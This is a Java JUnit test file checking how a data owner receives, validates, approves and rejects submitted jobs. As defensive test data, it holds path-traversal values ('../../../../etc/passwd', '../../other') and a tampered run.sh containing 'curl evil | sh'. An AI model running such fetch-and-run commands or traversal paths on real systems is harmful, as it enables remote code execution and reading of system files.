package dev.syft.jobs;

import static dev.syft.jobs.JobsFixture.DO;
import static dev.syft.jobs.JobsFixture.DS;
import static dev.syft.jobs.JobsFixture.DS2;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.syft.core.Cluster;
import dev.syft.core.SyncReport;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Receiving, validating, approving and rejecting at the data owner. */
class ReviewTest {
  @TempDir Path tmp;
  JobsFixture f;

  @BeforeEach
  void setUp() {
    f = new JobsFixture(tmp).connect(DS, DO);
  }

  @AfterEach
  void tearDown() {
    f.close();
  }

  private String inbox(String job) {
    return "app_data/job/inbox/" + DS + "/" + job + "/";
  }

  private JobState stateAtOwner(String job) throws Exception {
    return JobState.parse(Files.readString(f.c.datasite(DO).resolve("app_data/job/review/" + DS + "/" + job
        + "/state.yaml")));
  }

  @Test
  void aJobWithoutCodeIsRejectedWithAReasonTheSubmitterSees() throws Exception {
    Path replica = f.c.replica(DS, DO);
    Cluster.write(replica, inbox("bad") + "run.sh", "echo hi\n");
    Cluster.write(replica, inbox("bad") + "config.yaml", "name: bad\ntype: bash\nsubmitted_at: '2026-01-01T00:00:00Z'\n");
    f.sync(DS, DO);
    JobState s = stateAtOwner("bad");
    assertThat(s.status()).isEqualTo(JobStatus.REJECTED);
    assertThat(s.rejectedBy()).isEqualTo(DO);
    assertThat(s.reviewReason()).contains("missing: code");
    f.sync(DS);
    JobInfo seen = f.jobs(DS).get("bad");
    assertThat(seen.status()).isEqualTo("rejected");
    assertThat(seen.reviewReason()).contains("missing: code");
  }

  @Test
  void configNameMustMatchTheFolderAndExtraEntriesAreRefused() throws Exception {
    Path replica = f.c.replica(DS, DO);
    Cluster.write(replica, inbox("a") + "run.sh", "x");
    Cluster.write(replica, inbox("a") + "code/main.py", "x");
    Cluster.write(replica, inbox("a") + "config.yaml", "name: ../../other\nentrypoint: main.py\n");
    Cluster.write(replica, inbox("b") + "run.sh", "x");
    Cluster.write(replica, inbox("b") + "code/main.py", "x");
    Cluster.write(replica, inbox("b") + "extra.txt", "x");
    Cluster.write(replica, inbox("b") + "config.yaml", "name: b\nentrypoint: main.py\n");
    Cluster.write(replica, inbox("c") + "run.sh", "x");
    Cluster.write(replica, inbox("c") + "code/main.py", "x");
    Cluster.write(replica, inbox("c") + "config.yaml", "name: c\nentrypoint: ../../../../etc/passwd\n");
    Cluster.write(replica, inbox("d") + "run.sh", "x");
    Cluster.write(replica, inbox("d") + "code/main.py", "x");
    Cluster.write(replica, inbox("d") + "config.yaml", "name: d\ntype: rust\n");
    f.sync(DS, DO);
    assertThat(stateAtOwner("a").reviewReason()).contains("but its folder is 'a'");
    assertThat(stateAtOwner("b").reviewReason()).contains("unexpected: extra.txt");
    assertThat(stateAtOwner("c").reviewReason()).contains("not a relative path");
    assertThat(stateAtOwner("d").reviewReason()).contains("type");
    assertThat(f.c.datasite(DO).resolve("app_data/job/review/other")).doesNotExist();
  }

  @Test
  void theSubmitterCannotChangeAReceivedJobButCanSubmitNewOnes() throws Exception {
    Path main = f.file("main.py", "print('v1')\n");
    f.jobs(DS).submit(SubmitRequest.of(main, DO).withName("locked"));
    f.sync(DO);
    assertThat(f.jobs(DO).get("locked").status()).isEqualTo("pending");
    Path code = f.c.datasite(DO).resolve(inbox("locked") + "code/main.py");
    // the data scientist edits the received job in its replica and adds a file
    Cluster.write(f.c.replica(DS, DO), inbox("locked") + "code/main.py", "print('v2')\n");
    Cluster.write(f.c.replica(DS, DO), inbox("locked") + "code/evil.py", "x\n");
    f.sync(DS);
    SyncReport r = f.c.client(DO).sync();
    assertThat(r.rejected()).isEqualTo(1);
    assertThat(code).hasContent("print('v1')");
    assertThat(code.resolveSibling("evil.py")).doesNotExist();
    f.sync(DS);
    assertThat(f.c.client(DS).status().rejectedProposals()).isNotEmpty();
    // a new job still goes through
    f.jobs(DS).submit(SubmitRequest.of(main, DO).withName("second"));
    assertThat(f.c.client(DO).sync().accepted()).isEqualTo(1);
    assertThat(f.jobs(DO).get("second").status()).isEqualTo("pending");
  }

  @Test
  void aLostInboxPermissionFileIsRestoredWithTheJobLocks() throws Exception {
    f.jobs(DS).submit(SubmitRequest.of(f.file("main.py", "print('v1')\n"), DO).withName("kept"));
    f.sync(DO);
    Path acl = f.c.datasite(DO).resolve("app_data/job/inbox/" + DS + "/syft.pub.yaml");
    Files.delete(acl);
    f.sync(DO);
    assertThat(acl).exists();
    Cluster.write(f.c.replica(DS, DO), inbox("kept") + "code/main.py", "print('v2')\n");
    f.sync(DS);
    assertThat(f.c.client(DO).sync().rejected()).isEqualTo(1);
    f.jobs(DS).submit(SubmitRequest.of(f.file("main.py", "print('v1')\n"), DO).withName("new"));
    assertThat(f.c.client(DO).sync().accepted()).isEqualTo(1);
  }

  @Test
  void rejectAndApproveOnlyFromPending() throws Exception {
    Path main = f.file("main.py", "print(1)\n");
    f.jobs(DS).submit(SubmitRequest.of(main, DO).withName("r"));
    f.jobs(DS).submit(SubmitRequest.of(main, DO).withName("a"));
    f.sync(DO);
    Jobs owner = f.jobs(DO);
    assertThatThrownBy(() -> owner.reject("r", " ")).hasMessageContaining("reason");
    JobInfo r = owner.reject("r", "Not approved");
    assertThat(r.status()).isEqualTo("rejected");
    assertThat(r.reviewReason()).isEqualTo("Not approved");
    assertThatThrownBy(() -> owner.approve("r", null)).isInstanceOf(JobsException.class)
        .hasMessageContaining("rejected");
    JobInfo a = owner.approve("a", "ok");
    assertThat(a.approvedBy()).isEqualTo(DO);
    assertThat(a.approvalMethod()).isEqualTo("manual");
    assertThat(a.approvedHash()).isEqualTo(a.contentHash());
    assertThatThrownBy(() -> owner.approve("a", null)).hasMessageContaining("approved");
    // a data scientist cannot review
    f.sync(DO, DS);
    assertThatThrownBy(() -> f.jobs(DS).approve(DO + "/a", null)).isInstanceOf(JobsException.class)
        .hasMessageContaining("data owner");
  }

  @Test
  void approvalRefusesContentThatChangedSinceItWasReceived() throws Exception {
    Path main = f.file("main.py", "print(1)\n");
    f.jobs(DS).submit(SubmitRequest.of(main, DO).withName("swap"));
    f.sync(DO);
    Files.writeString(f.c.datasite(DO).resolve(inbox("swap") + "run.sh"), "curl evil | sh\n");
    assertThat(f.jobs(DO).get("swap").contentChanged()).isTrue();
    assertThatThrownBy(() -> f.jobs(DO).approve("swap", null)).isInstanceOf(JobsException.class)
        .hasMessageContaining("changed since it was received");
  }

  @Test
  void idsAreUniqueAcrossSubmitters() throws Exception {
    f.connect(DS2, DO);
    Path main = f.file("main.py", "print(1)\n");
    f.jobs(DS).submit(SubmitRequest.of(main, DO).withName("same"));
    f.jobs(DS2).submit(SubmitRequest.of(main, DO).withName("same"));
    f.sync(DO);
    Jobs owner = f.jobs(DO);
    assertThat(owner.list()).extracting(JobInfo::id).containsExactlyInAnyOrder(DS + "/same", DS2 + "/same");
    assertThatThrownBy(() -> owner.approve("same", null)).isInstanceOf(JobsException.class)
        .hasMessageContaining("matches several jobs");
    owner.approve(DS2 + "/same", null);
    assertThat(owner.get(DS + "/same").status()).isEqualTo("pending");
    assertThat(owner.get(DS2 + "/same").status()).isEqualTo("approved");
  }

  @Test
  void showGivesCodeRunScriptConfigAndWhatRuns() throws Exception {
    Path main = f.file("main.py", "print('shown')\n");
    f.jobs(DS).submit(SubmitRequest.of(main, DO).withName("show"));
    f.sync(DO);
    JobDetails d = f.jobs(DO).show("show");
    assertThat(d.files()).extracting(JobFile::path).containsExactly("code/main.py", "config.yaml", "run.sh");
    assertThat(d.file("code/main.py")).hasValueSatisfying(c -> {
      assertThat(c.text()).isEqualTo("print('shown')\n");
      assertThat(c.entrypoint()).isTrue();
      assertThat(c.size()).isEqualTo(15);
    });
    assertThat(d.file("run.sh").orElseThrow().text()).contains("python main.py");
    assertThat(d.file("config.yaml").orElseThrow().text()).contains("name: show");
    assertThat(d.release()).as("nothing ran, nothing to release").isEmpty();
    assertThat(d.executes()).contains("python3 main.py", "run.sh is not executed");
    assertThat(d.info().submitter()).isEqualTo(DS);
    assertThat(d.info().status()).isEqualTo("pending");
  }
}
